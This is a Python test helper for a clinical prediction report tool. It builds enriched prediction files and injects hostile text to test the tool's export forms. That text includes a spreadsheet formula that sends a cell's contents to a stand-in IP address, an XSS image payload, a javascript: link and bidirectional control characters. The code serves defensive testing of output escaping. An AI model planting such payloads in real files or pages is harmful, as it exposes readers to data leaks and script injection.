"""Predictions with all that a report can hold, and hostile text, for tests of its other forms."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from clinragen.cli import dispatch

FORMULA = '=HYPERLINK("http://198.51.100.1/?"&A1,"ok")'
#: what a rationale may say to whoever opens it: a formula, markup, Markdown, an invisible character, a control
SAID = f"{FORMULA}; @SUM(1) <img src=x onerror=alert(1)> [see](javascript:alert(1)) \u202eflipped\u202c \x07 ."
REASONS = ["-2+3 is no note", "its words are not known"]


def report(form: str, predictions: Path, cohort: Path, out: Path, *more: str | Path) -> Path:
    """Write a form with the command, and return its folder."""
    arguments = ["--form", form, "--predictions", predictions, "--cohort", cohort, "--out", out, *more]
    assert not dispatch(["report", *map(str, arguments)])
    return out


def enriched(predictions: Path, cohort: Path, out: Path) -> Path:
    """The predictions with sets of possible labels, contributions, attributions, an abstention and hostile text.

    The first stay abstains; the rationale of the second begins with a formula; the third lists nothing.
    """
    shutil.copytree(predictions, out)
    path = out / "predictions.parquet"
    table = pq.read_table(path)
    rows = table.to_pylist()
    rates: dict[int, list[float]] = {}
    for one in pq.read_table(cohort / "series.parquet").to_pylist():
        if one["variable"] == "heart_rate":
            rates.setdefault(one["stay_id"], []).append(one["value"])
    for position, row in enumerate(rows):
        row["abstains"] = REASONS if position == 0 else []
        row["interval"] = {key: [p / 2, (1 + p) / 2] for key, p in row["probabilities"].items()}
        if position == 2:
            row["diagnoses"] = []
        if row["diagnoses"]:
            row |= _argued(row["diagnoses"][0], rates[row["stay_id"]])
        else:
            row["contributions"] = []
        if position == 1:
            row["note_rationale"] = f"{SAID} {row['note_rationale']}"
    contribution = pa.struct([("diagnosis", pa.string()), ("evidence", pa.string()), ("share", pa.float64())])
    schema = table.schema.append(pa.field("abstains", pa.list_(pa.string())))
    schema = schema.append(pa.field("contributions", pa.list_(contribution)))
    ends = pa.struct([(key, pa.list_(pa.float64())) for key in rows[0]["probabilities"]])
    schema = schema.append(pa.field("interval", ends))
    pq.write_table(pa.Table.from_pylist(rows, schema=schema), path)
    (out / "attributions.jsonl").write_text(json.dumps(_explained(rows[1]["stay_id"])) + "\n")
    manifest = json.loads((out / "manifest.json").read_text())
    (out / "manifest.json").write_text(json.dumps(manifest | {"possible_from": 0.2}))
    return out


def _argued(key: str, rates: list[float]) -> dict[str, Any]:
    name = key.replace("_", " ")
    return {
        "series_rationale": f"Lab test shows heart rate up to about {max(rates):.0f} bpm, suggesting {name}.",
        "contributions": [
            {"diagnosis": key, "evidence": "variable:heart_rate", "share": -0.25},
            {"diagnosis": key, "evidence": "variable:lactate", "share": 0.5},
        ],
    }


def _explained(stay: int) -> dict[str, Any]:
    parts = {
        "concepts": [{"concept": "finding:heart_rate:high", "in": "series", "score": 1.25}],
        "variables": [{"variable": "heart_rate", "score": 1.5}],
        "hours": [{"variable": "heart_rate", "from_hour": 12, "to_hour": 24, "score": 0.8}],
    }
    row = {"diagnosis": "septicemia", "probability": 0.7, "threshold": 0.3, "occlusion": parts, "attention": parts}
    return {"stay_id": stay, "diagnoses": [row]}
